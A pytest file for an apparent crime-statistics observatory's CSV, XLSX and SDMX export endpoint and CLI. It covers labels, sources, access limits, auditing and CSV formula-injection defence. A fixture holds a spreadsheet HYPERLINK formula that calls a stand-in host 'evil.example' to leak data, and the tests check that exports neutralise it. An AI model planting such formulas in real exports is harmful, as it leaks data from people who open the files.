"""Exports of indicator values: ``GET /api/v1/indicators/export`` and ``atalaya stats
export`` in CSV and XLSX, with codes and labels in the reader's language, the sources
and vintages of every value, and only what the caller may see."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from types import SimpleNamespace

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import delete, select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from atalaya.audit.models import AuditEntry
from atalaya.cli import app as cli
from atalaya.clitools import unit_of_work
from atalaya.db import Database
from atalaya.observatory import sdmx
from atalaya.observatory.models import Observation, Series, Source
from atalaya.observatory.query import EVERYTHING, IndicatorQuery
from atalaya.observatory.service import indicator_values, publish
from atalaya.settings import Settings
from conftest import TEST_CONTEXT
from observatory.samples import VINTAGE, conapo_file, load_samples, run_import, sesnsp_file

NATIONAL_2021 = {"iccs": "0101", "area": "MX", "period": "2021"}
FORMATS = ("csv", "xlsx", "sdmx-csv", "sdmx-json")
URL = "/api/v1/indicators/export"
Headers = dict[str, str] | None


@pytest.fixture
def samples(db: Database, tmp_path: Path) -> None:
    load_samples(db, tmp_path)


def publish_all(db: Database, iccs: str | None = None) -> None:
    with unit_of_work(SimpleNamespace(db=db)) as session:  # type: ignore[arg-type]
        for source in session.scalars(select(Source.id)).all():
            publish(session, TEST_CONTEXT, source, iccs=iccs)


def exported(client: TestClient, format: str, headers: Headers = None, **params: str) -> bytes:
    response = client.get(URL, params={"format": format, **params}, headers=headers or {})
    assert response.status_code == 200, response.text
    return response.content


def csv_rows(client: TestClient, headers: Headers = None, **params: str) -> list[dict[str, str]]:
    text = exported(client, "csv", headers, **params).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_sheets(body: bytes) -> dict[str, list[tuple[object, ...]]]:
    book = load_workbook(io.BytesIO(body), read_only=True)
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


@pytest.mark.usefixtures("samples")
def test_a_csv_export_gives_codes_labels_values_rates_and_sources(
    client: TestClient, db: Database
) -> None:
    publish_all(db)
    response = client.get(
        URL, params={"format": "csv", **NATIONAL_2021}, headers={"Accept-Language": "es"}
    )
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="atalaya-indicators-')
    assert disposition.endswith('.csv"')
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8")))
    assert (row["indicator"], row["iccs"], row["area"], row["period"]) == (
        "offences", "0101", "MX", "2021"
    )  # fmt: skip
    assert row["value"] == "2256" and row["status"] == "final"
    assert float(row["rate_per_100k"]) == pytest.approx(225.6)
    assert row["iccs_label"] == "Homicidio intencional"
    assert (row["area_label"], row["sex_label"]) == ("México", "Total")
    assert (row["population"], row["population_year"], row["population_vintage"]) == (
        "1000000", "2021", "2023-01-01"
    )  # fmt: skip
    assert row["population_source"].startswith("CONAPO: ")
    assert (row["publisher"], row["vintage"], row["source_type"]) == (
        "SESNSP", "2022-05-01", "police"
    )  # fmt: skip
    assert row["dataset"].startswith("IDEFC_NM")
    assert "parcial" in row["notes"] or "partial" in row["notes"]


@pytest.mark.usefixtures("samples")
def test_a_value_not_available_is_exported_empty_never_zero(
    client: TestClient, db: Database
) -> None:
    publish_all(db)
    (row,) = csv_rows(client, iccs="0101", area="MX-CHH", period="2022")
    assert (row["value"], row["status"], row["rate_per_100k"]) == ("", "not_available", "")
    assert row["status_label"] == "Not available"


@pytest.mark.usefixtures("samples")
def test_the_csv_export_holds_the_same_values_as_the_api(client: TestClient, db: Database) -> None:
    publish_all(db)
    params = {"area": "MX-CHH", "iccs": "01", "frequency": "Q"}
    listed = client.get("/api/v1/indicators", params={**params, "limit": "500"}).json()["items"]
    rows = csv_rows(client, **params)
    # 2021's four quarters; 2022's first, and its second (April and May only) not available.
    assert len(rows) == len(listed) == 6 and rows[-1]["status"] == "not_available"
    for row, value in zip(rows, listed, strict=True):
        assert (row["period"], row["status"]) == (value["period"], value["status"])
        assert row["value"] == ("" if value["value"] is None else str(value["value"]))


@pytest.mark.usefixtures("samples")
def test_an_xlsx_export_has_the_values_their_sources_and_the_query(
    client: TestClient, db: Database
) -> None:
    publish_all(db)
    response = client.get(URL, params={"format": "xlsx", **NATIONAL_2021})
    assert response.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["content-disposition"].endswith('.xlsx"')
    sheets = xlsx_sheets(response.content)
    header, row = sheets["data"]
    found = dict(zip(header, row, strict=True))
    assert (found["area"], found["period"], found["value"]) == ("MX", "2021", 2256)
    assert found["rate_per_100k"] == pytest.approx(225.6)
    assert found["iccs_label"] == "Intentional homicide"
    roles = {(r[0], r[1], str(r[4])[:10]) for r in sheets["sources"][1:]}
    assert roles == {("observations", "SESNSP", "2022-05-01"),
                     ("population", "CONAPO", VINTAGE.isoformat())}  # fmt: skip
    assert ("iccs", "0101") in sheets["query"] and ("area", "MX") in sheets["query"]


@pytest.mark.usefixtures("samples")
@pytest.mark.parametrize("format", FORMATS)
def test_anonymous_callers_export_only_published_series(
    client: TestClient, db: Database, format: str
) -> None:
    assert b"SESNSP" not in _readable(exported(client, format, iccs="01"), format)
    publish_all(db, iccs="010321")
    body = _readable(exported(client, format, iccs="01", area="MX-CHH", period="2021"), format)
    assert b"SESNSP" in body and b"010321" not in body  # rolled up to the code asked: 01
    rows = csv_rows(client, area="MX-CHH", period="2021")
    assert [(r["iccs"], r["value"]) for r in rows] == [("010321", "60")]


def _readable(body: bytes, format: str) -> bytes:
    """The export's text (an XLSX file is zipped: its cells are read)."""
    if format != "xlsx":
        return body
    cells = [str(c) for rows in xlsx_sheets(body).values() for row in rows for c in row]
    return " ".join(cells).encode("utf-8")


@pytest.mark.usefixtures("samples")
@pytest.mark.parametrize("format", FORMATS)
def test_users_of_another_jurisdiction_do_not_export_its_unpublished_series(
    client: TestClient,
    auth,  # type: ignore[no-untyped-def]
    format: str,
) -> None:
    # valentina is an analyst of Colombia; charlie an officer (no stats.read_unpublished).
    for user in ("valentina", "charlie"):
        body = exported(client, format, auth(user), iccs="0101")
        assert b"SESNSP" not in _readable(body, format)
    # diana, supervisor of Chihuahua, exports Chihuahua's and nothing of Jalisco's.
    body = _readable(exported(client, format, auth("diana"), iccs="0101"), format)
    assert b"MX-CHH" in body and b"MX-JAL" not in body


@pytest.mark.usefixtures("samples")
def test_an_export_by_a_signed_in_user_is_audited(
    client: TestClient,
    session: Session,
    auth,  # type: ignore[no-untyped-def]
) -> None:
    exported(client, "csv", auth("diana"), iccs="0101", area="MX-CHH")
    exported(client, "csv", iccs="0101")
    entries = session.scalars(select(AuditEntry).where(AuditEntry.action == "stats.export")).all()
    details = [(e.actor_username, json.loads(e.detail)) for e in entries]
    assert [(who, d["format"], d["filters"]) for who, d in details] == [
        ("diana", "csv", {"iccs": "0101", "area": "MX-CHH"})
    ]


def test_a_format_not_offered_and_bad_filters_are_refused(client: TestClient) -> None:
    response = client.get(URL, params={"format": "pdf"})
    assert response.status_code == 422 and response.json()["code"] == "OBS-116"
    response = client.get(URL, params={"format": "csv", "iccs": "0108", "period": "21"})
    assert response.status_code == 422
    assert {(e["field"], e["code"]) for e in response.json()["errors"]} == {
        ("iccs", "OBS-115"), ("period", "OBS-114")
    }  # fmt: skip


runner = CliRunner()


def test_the_command_exports_with_the_query_filters(cli_env: Settings, tmp_path: Path) -> None:
    for path, format, *vintage in (
        (sesnsp_file(tmp_path), "sesnsp-idefc"),
        (conapo_file(tmp_path), "conapo-population", "--vintage", "2023-01-01"),
    ):
        result = runner.invoke(cli, ["stats", "import", str(path), "--format", format, *vintage])
        assert result.exit_code == 0, result.output
    out = tmp_path / "out.xlsx"
    filters = ["--iccs", "0101", "--area", "MX", "--period", "2021"]
    result = runner.invoke(
        cli, ["stats", "export", "--format", "xlsx", "--output", str(out), *filters]
    )
    assert result.exit_code == 0, result.output
    header, row = xlsx_sheets(out.read_bytes())["data"]
    assert dict(zip(header, row, strict=True))["value"] == 2256
    # The operator sees everything; --public what anonymous callers see (nothing published).
    result = runner.invoke(cli, ["stats", "export", "--format", "csv", "--public", *filters])
    assert result.exit_code == 0 and "SESNSP" not in result.stdout
    result = runner.invoke(cli, ["stats", "export", "--format", "csv", *filters])
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert (row["value"], row["publisher"]) == ("2256", "SESNSP")


def test_the_command_refuses_a_format_not_offered(cli_env: Settings) -> None:
    result = runner.invoke(cli, ["stats", "export", "--format", "pdf"])
    assert result.exit_code == 1 and "OBS-116" in result.output
    helped = runner.invoke(cli, ["stats", "export", "--help"])
    assert "sdmx-csv" in helped.output and "--national-category" in helped.output


# Text a spreadsheet would run, typed by a publisher into its file and read in through
# an SDMX-CSV import: a national category and a publisher's name.
FORMULA = '=HYPERLINK("http://evil.example/?leak","Ver")'
PUBLISHER = "@SUM(A1:A9)"
PLANTED = {"iccs": "0101", "area": "MX-CHH", "period": "2021", "national_category": FORMULA}


def forget_observations(db: Database, publisher: str) -> None:
    """Delete the publisher's source, series and observations (the populations stay)."""
    with unit_of_work(SimpleNamespace(db=db)) as session:  # type: ignore[arg-type]
        sources = select(Source.id).where(Source.publisher == publisher).scalar_subquery()
        series = select(Series.id).where(Series.source_id.in_(sources)).scalar_subquery()
        session.execute(delete(Observation).where(Observation.series_id.in_(series)))
        session.execute(delete(Series).where(Series.source_id.in_(sources)))
        session.execute(delete(Source).where(Source.id.in_(sources)))


@pytest.fixture
def planted(db: Database, session: Session, tmp_path: Path) -> None:
    """The samples' yearly homicides, stored again from an SDMX-CSV file whose publisher
    and national category are formulas; published."""
    load_samples(db, tmp_path)
    query = IndicatorQuery(iccs="0101", frequency="A")
    text = sdmx.write_csv(indicator_values(session, query, EVERYTHING)).decode("utf-8")
    header, *lines = csv.reader(io.StringIO(text))
    for line in lines:
        line[header.index("SOURCE")] = f"{PUBLISHER}: IDEFC"
        line[header.index("NATIONAL_CATEGORY")] = FORMULA
    out = io.StringIO()
    csv.writer(out).writerows([header, *lines])
    (tmp_path / "planted.csv").write_text(out.getvalue(), encoding="utf-8")
    forget_observations(db, "SESNSP")
    run_import(db, tmp_path / "planted.csv", "sdmx-csv")
    publish_all(db)


@pytest.mark.usefixtures("planted")
def test_a_csv_export_quotes_text_a_spreadsheet_would_run(client: TestClient) -> None:
    (row,) = csv_rows(client, **PLANTED)
    assert row["national_category"] == "'" + FORMULA
    assert row["publisher"] == "'" + PUBLISHER
    assert (row["value"], row["vintage"], row["population_vintage"]) == (
        "156", "2022-05-01", "2023-01-01"
    )  # fmt: skip
    assert float(row["rate_per_100k"]) == pytest.approx(78.0)


@pytest.mark.usefixtures("planted")
def test_an_xlsx_export_quotes_text_a_spreadsheet_would_run(client: TestClient) -> None:
    book = load_workbook(io.BytesIO(exported(client, "xlsx", **PLANTED)))
    header, row = book["data"].iter_rows()
    found = {h.value: cell for h, cell in zip(header, row, strict=True)}
    assert found["national_category"].value == "'" + FORMULA
    assert found["national_category"].data_type == "s"  # text, not a formula
    assert found["publisher"].value == "'" + PUBLISHER
    assert found["value"].value == 156 and found["value"].data_type == "n"
    assert found["vintage"].value.date() == dt.date(2022, 5, 1)
    sources = [[c.value for c in r] for r in book["sources"].iter_rows(min_row=2)]
    assert ["observations", "'" + PUBLISHER, "IDEFC"] in [r[:3] for r in sources]
    assert ["national_category", "'" + FORMULA] in [
        [c.value for c in r] for r in book["query"].iter_rows()
    ]


@pytest.mark.usefixtures("planted")
def test_an_sdmx_csv_export_quotes_text_a_spreadsheet_would_run_and_reads_back_as_typed(
    client: TestClient, db: Database, session: Session, tmp_path: Path
) -> None:
    body = exported(client, "sdmx-csv", **PLANTED)
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
    count = next(r for r in rows if r["INDICATOR"] == "offences")
    assert count["SOURCE"] == f"'{PUBLISHER}: IDEFC"
    assert count["NATIONAL_CATEGORY"] == "'" + FORMULA
    assert (count["OBS_VALUE"], count["VINTAGE"]) == ("156", "2022-05-01")
    # SDMX-JSON is not opened by spreadsheets: written as stored.
    assert f'"{PUBLISHER}: IDEFC"' in exported(client, "sdmx-json", **PLANTED).decode("utf-8")
    # Read back, the quotes are gone: the values are stored as they were typed.
    (tmp_path / "again.csv").write_bytes(body)
    forget_observations(db, PUBLISHER)
    run_import(db, tmp_path / "again.csv", "sdmx-csv")
    assert PUBLISHER in session.scalars(select(Source.publisher)).all()
    assert session.scalars(select(Series.national_code).distinct()).all() == [FORMULA]
